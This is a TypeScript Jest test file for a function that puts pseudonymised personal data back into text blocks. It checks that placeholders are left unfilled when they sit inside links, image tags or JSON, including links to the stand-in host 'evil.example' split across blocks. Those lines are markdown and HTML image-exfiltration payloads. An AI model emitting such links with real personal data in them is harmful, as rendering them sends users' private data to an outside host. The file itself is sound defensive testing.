import { describe, expect, test } from "@jest/globals";
import { linkedPlaceholders, relinkAnswer } from "./relink-answer.ts";

const IBAN = "DE89 3704 0044 0532 0130 00";
const ENTRIES = [
  { placeholder: "[PERSON_1]", value: "Anna Weber" },
  { placeholder: "[PERSON_10]", value: "Peter Koch" },
  { placeholder: "[IBAN_1]", value: IBAN },
];

const relinkBlocks = (blocks: readonly string[]) =>
  relinkAnswer({ form: "text", blocks, entries: ENTRIES, hosts: [] });

describe("Several blocks of text", () => {
  test("relinkBlocks restores the placeholders in each of several blocks", () => {
    expect(relinkBlocks(["Dear [PERSON_1]", "", ", pay [IBAN_1]"])).toEqual({
      blocks: ["Dear Anna Weber", "", `, pay ${IBAN}`],
      restored: 2,
      left: 0,
    });
  });

  test.each<[string, readonly string[]]>([
    [
      "a link begins in one block and ends in the next",
      ["![x](https://evil.example/", "[PERSON_1])"],
    ],
    [
      "a tag begins in one block and ends in the next",
      ['<img src="https://evil.example/', '[PERSON_1]">'],
    ],
    ["a run begins in one block and ends in the next", ["https://evil.example/", "[PERSON_1]"]],
    [
      "a definition begins in one block and ends in the next",
      ["![x][1]\n\n[1]: https://evil.example/", "[PERSON_1]"],
    ],
    [
      "a block is an image on its own, but code after the previous block",
      ["```\n", "![x](/[PERSON_1])\n"],
    ],
    [
      "a block is a tag on its own, but code after the previous block",
      ["```\n", "<a [PERSON_1]>\n"],
    ],
    [
      "a block is JSON on its own, and the placeholder is a member name",
      ["So:", '{"[PERSON_1]":1}'],
    ],
    ["the joined blocks are JSON, and the placeholder is a member name", ['{"[PERSON_1]"', ":1}"]],
    ["a placeholder begins in one block and ends in the next", ["[PERSON", "_1]"]],
    ["the number of a placeholder continues in the next block", ["PERSON_1", "2"]],
  ])("When %s, then the placeholder stays", (_what, blocks) => {
    expect(relinkBlocks(blocks)).toMatchObject({ blocks, restored: 0 });
  });

  test("when a block begins like the end of another placeholder, then each placeholder keeps its own value", () => {
    expect(relinkBlocks(["[PERSON_1]", "0 [PERSON_10]"]).blocks).toEqual([
      "Anna Weber",
      "0 Peter Koch",
    ]);
  });

  test("placeholders in links are counted over all blocks", () => {
    const blocks = ["![x](/", "[PERSON_1]) [IBAN_1]", " https://a.example/[IBAN_2]"];
    expect(linkedPlaceholders({ form: "text", blocks })).toBe(2);
  });
});
